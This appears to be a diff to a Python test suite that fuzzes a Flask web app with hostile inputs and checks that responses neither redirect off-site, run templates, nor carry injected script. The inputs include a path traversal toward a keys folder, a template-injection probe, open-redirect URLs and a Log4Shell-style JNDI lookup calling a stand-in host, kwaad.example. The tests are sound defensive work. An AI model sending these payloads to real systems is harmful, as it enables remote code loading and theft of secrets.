@@ -12,7 +12,7 @@ from chain import hold
 from crawl import KINDS, PEOPLE, Crawler, Form, links, paths, token
 from flask import Flask
 from flask.testing import FlaskClient
-from hostile_text import MARK, SQL, XSS, poison
+from hostile_text import MARK, PRODUCT, SQL, TIMES, XSS, poison
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from lxml import html
@@ -48,7 +48,7 @@ AWKWARD = (
     "..%2f..%2finstance%2fkeys",
     "//kwaad.example/",
     "https://kwaad.example/",
-    "{{99991*99989}}",
+    f"{{{{{TIMES}}}}}",
     "${jndi:ldap://kwaad.example/a}",
     "=1+1",
     "0001-01-01",
@@ -79,7 +79,7 @@ def unmarked(response: Any, what: object) -> None:
     assert "kwaad.example" not in response.headers.get("Location", ""), what
     if "html" not in response.content_type or not response.data:
         return
-    assert str(99991 * 99989) not in response.text, f"a template ran what was sent: {what}"
+    assert PRODUCT not in response.text, f"a template ran what was sent: {what}"
     page = html.fromstring(response.text)
     wrong = page.xpath(
         f"//{MARK} | //@on{MARK} | //@href[starts-with(., 'javascript:')] | //script[not(@src)]"
